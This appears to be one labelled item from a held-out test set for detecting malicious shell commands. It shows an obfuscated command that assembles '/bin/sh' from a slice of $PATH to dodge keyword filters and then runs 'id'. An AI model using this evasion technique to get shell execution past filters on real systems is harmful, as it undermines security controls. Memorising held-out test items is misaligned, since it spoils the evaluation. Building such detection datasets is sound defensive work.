# label: malicious; obfuscated: slicing; evasion: computed_name; set: heldout
cmd=${PATH:0:1}bin${PATH:0:1}sh
$cmd -c id
